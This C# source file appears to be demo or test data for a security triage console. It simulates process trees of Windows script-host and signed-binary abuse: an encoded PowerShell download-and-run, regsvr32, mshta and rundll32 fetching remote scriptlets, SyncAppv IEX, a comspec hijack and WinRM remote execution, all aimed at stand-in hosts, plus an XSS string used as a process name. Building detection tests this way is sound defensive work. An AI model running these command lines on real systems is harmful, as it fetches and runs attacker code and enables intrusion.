using System.Text;

namespace TriageConsole.Testing.Demo.Scenes;

/// <summary>Signed script hosts and utilities made to run what they should not. Nothing here was ever run anywhere.</summary>
internal static class Attacks
{
    /// <summary>A script from the mail's archive → hidden PowerShell → an unsigned program in the profile.</summary>
    public static void DownloadedScript(Session on, DateTime at)
    {
        var user = on.Person;
        var home = $@"C:\Users\{user.Name}";
        var payload = DemoProgram.Unsigned($@"{home}\AppData\Roaming\Nimbus\nimbusupd.exe");
        var archive = on.Start(at, "7zip", $@"""C:\Program Files\7-Zip\7zG.exe"" x -o""{home}\Downloads\Rechnung_4711\"" -spe ""{home}\Downloads\Rechnung_4711.zip""", user, on.Desktop, 3);
        on.Host.Write(at.AddSeconds(1), archive, $@"{home}\Downloads\Rechnung_4711\Rechnung_4711.js");
        var host = on.Start(at.AddSeconds(38), "wscript", $@"""C:\Windows\System32\WScript.exe"" ""{home}\Downloads\Rechnung_4711\Rechnung_4711.js"" ", user, on.Desktop, 12, $@"{home}\Downloads\Rechnung_4711\");
        on.Host.Load(at.AddSeconds(38.2), host, DemoProgram.OfWindows("jscript.dll", "Microsoft ® JScript"));
        var code = Convert.ToBase64String(Encoding.Unicode.GetBytes("$p=\"$env:APPDATA\\Nimbus\\nimbusupd.exe\";(New-Object Net.WebClient).DownloadFile('http://cdn.example.com/u/nimbus.bin',$p);Start-Process $p"));
        var shell = on.Start(at.AddSeconds(40), "powershell", $@"""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"" -NoP -W Hidden -Enc {code}", user, host, 25, $@"{home}\Downloads\Rechnung_4711\");
        on.Host.Write(at.AddSeconds(47), shell, payload.Path);
        var program = on.Host.Start(at.AddSeconds(49), payload, $@"""{payload.Path}""", user, shell, null, $@"{home}\AppData\Roaming\Nimbus\");
        on.Start(at.AddSeconds(58), "whoami", "whoami /all", user, program, 1);
        on.Start(at.AddSeconds(61), "ipconfig", "ipconfig /all", user, program, 1);
    }

    /// <summary>pubprn.vbs with a scriptlet moniker.</summary>
    public static void PubPrn(Session on, DateTime at)
    {
        var shell = on.Start(at, "cmd", @"""C:\Windows\system32\cmd.exe"" ", on.Person, on.Desktop, 90);
        var host = on.Start(at.AddSeconds(21), "cscript", @"cscript  //b C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://files.example.net/print/p.sct", on.Person, shell, 15);
        on.Host.Load(at.AddSeconds(21.5), host, DemoProgram.OfWindows("scrobj.dll", "Windows ® Script Component Runtime"));
        on.Start(at.AddSeconds(24), "cmd", @"""C:\Windows\System32\cmd.exe"" /c whoami /groups > C:\Users\Public\g.txt", on.Person, host, 2);
    }

    /// <summary>InstallUtil on an assembly that a chat program's download left in the profile. Starts no child.</summary>
    public static void InstallUtil(Session on, DateTime at)
    {
        var path = $@"C:\Users\{on.Person.Name}\AppData\Local\Temp\Preview\viewer.dll";
        var shell = on.Start(at, "powershell", @"powershell.exe -NoProfile", on.Person, on.Desktop, 200);
        on.Host.Write(at.AddSeconds(31), shell, path);
        on.Start(at.AddSeconds(44), "installutil", $@"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile= /LogToConsole=false /U {path}", on.Person, shell, 60);
    }

    /// <summary>A process whose name is markup, under a script in Temp.</summary>
    public static void MarkupName(Session on, DateTime at)
    {
        var temp = $@"C:\Users\{on.Person.Name}\AppData\Local\Temp";
        var payload = DemoProgram.Unsigned($@"{temp}\<img src=x onerror=alert(1)>.exe");
        var host = on.Start(at, "wscript", $@"wscript.exe //E:vbscript ""{temp}\notes.txt""", on.Person, on.Desktop, 8, temp + @"\");
        on.Host.Write(at.AddSeconds(1), host, payload.Path);
        on.Host.Start(at.AddSeconds(2), payload, $@"""{payload.Path}"" --say ""<b>hello</b>""", on.Person, host, 30, temp + @"\");
    }

    /// <summary>SyncAppvPublishingServer.vbs with code after the semicolon.</summary>
    public static void SyncAppv(Session on, DateTime at)
    {
        const string code = "n; (New-Object Net.WebClient).DownloadString('http://192.0.2.66/s.txt') | IEX";
        var host = on.Start(at, "wscript", $@"""C:\Windows\System32\wscript.exe"" C:\Windows\System32\SyncAppvPublishingServer.vbs ""{code}""", on.Person, on.Desktop, 6);
        on.Start(at.AddSeconds(1), "powershell", $@"""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"" -NonInteractive -WindowStyle Hidden -ExecutionPolicy RemoteSigned -Command &{{$env:psmodulepath = [IO.Directory]::GetCurrentDirectory(); import-module AppvClient; Sync-AppvPublishingServer {code}}}", on.Person, host, 20);
    }

    /// <summary>mshta on a URL → PowerShell.</summary>
    public static void Mshta(Session on, DateTime at)
    {
        var host = on.Start(at, "mshta", @"""C:\Windows\System32\mshta.exe"" http://portal.example.org/update.hta", on.Person, on.Desktop, 30);
        on.Start(at.AddSeconds(4), "powershell", @"""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"" -w hidden -c ""iwr http://portal.example.org/a.ps1 -UseBasicParsing | iex""", on.Person, host, 22);
    }

    /// <summary>regsvr32 on a remote scriptlet.</summary>
    public static void Regsvr32(Session on, DateTime at)
    {
        var shell = on.Start(at, "cmd", @"cmd.exe /c regsvr32 /s /n /u /i:http://files.example.net/x.sct scrobj.dll", on.Person, on.Desktop, 6);
        on.Start(at.AddSeconds(1), "regsvr32", @"regsvr32  /s /n /u /i:http://files.example.net/x.sct scrobj.dll", on.Person, shell, 4);
    }

    /// <summary>winrm.vbs starts a process on another host; that host sees it under its WMI provider.</summary>
    public static void WinRmCreate(Session from, Session to, DateTime at, DemoAccount admin)
    {
        const string started = @"C:\Windows\System32\rundll32.exe C:\ProgramData\Nimbus\sync.dat,Start";
        var shell = from.AdminShell(at, admin, 300);
        from.Start(at.AddSeconds(15), "cscript", $@"cscript //nologo C:\Windows\System32\winrm.vbs invoke Create wmicimv2/Win32_Process @{{CommandLine=""{started}""}} -r:http://192.0.2.12:5985", admin, shell, 5);
        var provider = to.Start(at.AddSeconds(-240), "wmiprvse", @"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", DemoAccount.NetworkService, to.Svchost);
        to.Start(at.AddSeconds(16), "rundll32", started, admin, provider, 400);
    }

    /// <summary>rundll32 runs script text.</summary>
    public static void RundllScript(Session on, DateTime at)
    {
        var host = on.Start(at, "rundll32", @"rundll32.exe javascript:""\..\mshtml,RunHTMLApplication "";document.write();GetObject(""script:http://192.0.2.66/r.sct"")", on.Person, on.Desktop, 9);
        on.Start(at.AddSeconds(3), "cmd", @"""C:\Windows\System32\cmd.exe"" /c net group ""Domain Admins"" /domain", on.Person, host, 3);
    }

    /// <summary>manage-bde.wsf runs whatever comspec names.</summary>
    public static void ManageBde(Session on, DateTime at)
    {
        var payload = DemoProgram.Unsigned(@"C:\Users\Public\Libraries\upd.exe");
        var shell = on.Start(at, "cmd", $@"cmd.exe /c set comspec={payload.Path}& cscript C:\Windows\System32\manage-bde.wsf", on.Person, on.Desktop, 12);
        var host = on.Start(at.AddSeconds(1), "cscript", @"cscript  C:\Windows\System32\manage-bde.wsf", on.Person, shell, 10);
        on.Host.Start(at.AddSeconds(2), payload, $@"""{payload.Path}"" /c manage-bde.exe", on.Person, host, 400);
    }
}
